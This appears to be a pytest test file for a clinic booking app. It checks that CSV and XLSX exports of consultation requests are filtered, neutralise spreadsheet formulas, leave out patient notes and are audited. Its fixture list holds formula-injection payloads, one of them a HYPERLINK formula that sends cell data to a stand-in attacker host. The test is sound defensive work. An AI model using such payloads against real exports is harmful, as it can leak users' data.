"""The front desk exports the filtered requests as CSV or XLSX: only the rows the filter shows, every
cell that a spreadsheet would run as a formula neutralised, and every export audited."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from booking.models import RequestAuditEntry
from tests.factories import make_request

pytestmark = pytest.mark.django_db

INDEX = "consultationrequest:index"
Action = RequestAuditEntry.Action


def index_url(query=""):
    return reverse(INDEX) + query


def audit_entries(action):
    return list(RequestAuditEntry.objects.filter(action=action).order_by("pk"))


def download(response):
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


NASTY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "  =1+1",
    "\tTabbed",
    "\rCarriage",
    "\uff1d1+1",
]


def make_export_rows():
    nasty = [make_request(name=name, status="contacted") for name in NASTY_NAMES]
    other = make_request(name="Not Exported", status="closed")
    return nasty, other


def test_csv_export_has_only_the_filtered_rows_and_neutralises_formulas(desk_client, front_desk):
    nasty, other = make_export_rows()

    response = desk_client.get(index_url("?status=contacted&export=csv"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="consultation-requests.csv"'
    rows = list(csv.DictReader(io.StringIO(download(response).decode())))
    assert {row["Reference"] for row in rows} == {request.reference for request in nasty}
    assert "Not Exported" not in download(response).decode()
    assert {row["Name"] for row in rows} == {"'" + name for name in NASTY_NAMES}
    assert {row["Phone"] for row in rows} == {"'+15550102030"}
    assert {row["Status"] for row in rows} == {"Contacted"}
    # The patient's own words and the staff's notes stay out of the file.
    assert "Symptoms" not in rows[0] and "Stiff neck" not in download(response).decode()

    entries = audit_entries(Action.EXPORT)
    assert {entry.request_id_ref for entry in entries} == {request.pk for request in nasty}
    assert {entry.detail for entry in entries} == {"CSV export of 8 rows; filtered by status"}
    assert all(entry.user == front_desk for entry in entries)


def test_xlsx_export_has_only_the_filtered_rows_and_neutralises_formulas(desk_client):
    nasty, other = make_export_rows()

    response = desk_client.get(index_url("?status=contacted&q=%2B&export=xlsx"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(download(response)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    name_column = header.index("Name")
    rows = list(sheet.iter_rows(min_row=2))

    assert {row[0].value for row in rows} == {request.reference for request in nasty}
    # XML reads a carriage return back as a line feed; what matters is the leading quote.
    expected = {"'" + name.replace("\r", "\n") for name in NASTY_NAMES}
    assert {row[name_column].value for row in rows} == expected
    assert all(row[name_column].data_type == "s" for row in rows)
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    [detail] = {entry.detail for entry in audit_entries(Action.EXPORT)}
    assert detail == "XLSX export of 8 rows; filtered by status; with a search"


def test_export_of_an_empty_list_is_still_audited(desk_client):
    response = desk_client.get(index_url("?status=closed&export=csv"))
    assert response.status_code == 200
    [entry] = audit_entries(Action.EXPORT)
    assert entry.request_id_ref is None and entry.detail == "CSV export of 0 rows; filtered by status"
